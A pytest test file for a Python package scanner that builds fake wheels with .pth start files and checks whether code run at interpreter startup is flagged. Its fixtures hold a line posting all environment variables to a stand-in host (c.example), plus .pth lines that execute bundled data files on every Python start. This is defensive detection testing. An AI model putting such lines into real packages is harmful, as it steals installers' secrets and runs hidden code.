"""What a start file calls is found by whatever name it calls it, through whatever modules of the package."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from mlsupply.evidence.facets import Moment
from mlsupply.evidence.package import look_inside
from mlsupply.evidence.pool import Pool
from tests.made_wheels import CLEAN, put, wheel

_POSTS = "requests.post('https://c.example/x', json=dict(os.environ))\n"
_SENDS = f"import os, requests\ndef go():\n    {_POSTS}"
_METHOD = f"import os, requests\nclass Work:\n    def go(self):\n        {_POSTS}"
_HOPS = {f"demo/m{n}.py": f"from .m{n + 1} import go\n" for n in range(4)}

_STORIES = {
    "an object of the package": ({"demo/__init__.py": _METHOD + "work = Work()\n"}, "import demo; demo.work.go()"),
    "a class of another module": (
        {"demo/__init__.py": "from .work import Work\n", "demo/work.py": _METHOD},
        "import demo; demo.Work.go(None)",
    ),
    "an entry of a table": (
        {"demo/__init__.py": "from .work import go\nTABLE = {'a': go}\n", "demo/work.py": _SENDS},
        "import demo; demo.TABLE['a']()",
    ),
    "everything of a module": (
        {"demo/__init__.py": "from .work import *\n", "demo/work.py": _SENDS},
        "import demo; demo.go()",
    ),
    "modules that hand the name on": (
        {"demo/__init__.py": "from .m0 import go\n", **_HOPS, "demo/m4.py": _SENDS},
        "import demo; demo.go()",
    ),
}
_QUIET = {
    "another entry of the table": (
        {"demo/__init__.py": "from .work import go\nTABLE = {'a': go}\nready = len\n", "demo/work.py": _SENDS},
        "import demo; demo.ready(demo.TABLE)",
    ),
    "another object": (
        {"demo/__init__.py": _METHOD + "class Calm:\n    def go(self):\n        pass\nwork = Calm()\n"},
        "import demo; demo.work.go()",
    ),
}


@pytest.fixture(scope="module")
def pool() -> Iterator[Pool]:
    with Pool(1) as found:
        yield found


def _moments(files: dict[str, str], line: str, tmp_path: Path, pool: Pool) -> set[Moment]:
    """When what is sent is sent."""
    members = {name: text.encode() for name, text in {**files, "demo.pth": line + "\n"}.items()}
    facts = look_inside(put(tmp_path, "demo-1.0-py3-none-any.whl", wheel({**CLEAN, **members})), pool)
    return {fact.moment for fact in facts.code if fact.behaviour == "sends"}


@pytest.mark.parametrize(("files", "line"), _STORIES.values(), ids=_STORIES.keys())
def test_what_a_start_line_calls_runs_when_python_starts(
    files: dict[str, str], line: str, tmp_path: Path, pool: Pool
) -> None:
    assert _moments(files, line, tmp_path, pool) == {Moment.START}


@pytest.mark.parametrize(("files", "line"), _QUIET.values(), ids=_QUIET.keys())
def test_what_it_only_names_does_not(files: dict[str, str], line: str, tmp_path: Path, pool: Pool) -> None:
    assert _moments(files, line, tmp_path, pool) == {Moment.CALL}


def test_names_that_stand_for_each_other_come_to_an_end(tmp_path: Path, pool: Pool) -> None:
    """Each of these stands for something below itself, and everything is imported from every module by every other."""
    names = [f"m{n}" for n in range(12)]
    stars = "".join(f"from .{name} import *\nfrom .{name}.{name} import {name} as there\n" for name in names)
    files = {"demo/__init__.py": stars + _SENDS, **{f"demo/{name}.py": stars + "import subprocess\n" for name in names}}
    assert _moments(files, "import demo; demo.there.there.there(); demo.absent()", tmp_path, pool) == {Moment.CALL}


_RUN = "__import__('runpy').run_path(os.path.join({}, 'demo', 'tables.dat'))"
_LOADS_DATA = {
    "the folder of all packages": "import sysconfig, os; " + _RUN.format("sysconfig.get_path('purelib')"),
    "a condition before it": "import os, site; os.environ.get('OFF') or " + _RUN.format("site.getsitepackages()[0]"),
    "every folder of sys.path": f"import sys, os; [{_RUN.format('one')} for one in sys.path]",
    "a loader": "import importlib.machinery as m, demo; m.SourceFileLoader('x', demo.__path__[0] + '/tables.dat')",
}


@pytest.mark.parametrize("line", _LOADS_DATA.values(), ids=_LOADS_DATA)
def test_data_that_runs_whenever_python_starts_is_told(line: str, tmp_path: Path, pool: Pool) -> None:
    def bundled(line: str, name: str) -> list[str]:
        members = {"demo.pth": line.encode(), f"demo/{name}": b"limit = 4\n"}
        facts = look_inside(put(tmp_path, "demo-1.0-py3-none-any.whl", wheel({**CLEAN, **members})), pool)
        return [fact.detail for fact in facts.code if fact.behaviour == "runs-bundled" and fact.moment is Moment.START]

    assert bundled(line, "tables.dat") == ["modules under the name of other data: tables.dat"]
    assert not bundled(line.replace("tables.dat", "tables.py"), "tables.py")  # which is looked at itself
